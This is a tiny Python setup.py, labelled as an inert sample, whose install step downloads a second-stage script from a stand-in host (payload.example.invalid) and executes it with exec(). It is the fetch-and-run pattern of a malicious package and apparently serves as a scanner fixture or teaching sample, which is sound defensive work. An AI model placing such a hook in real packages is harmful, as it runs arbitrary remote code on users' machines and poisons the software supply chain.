# INERT SAMPLE: never run. Host is example.invalid.
from setuptools import setup
import urllib.request

payload = urllib.request.urlopen("https://payload.example.invalid/stage2.py").read()
exec(payload)

setup(name="inert-sample", version="0.0.1")
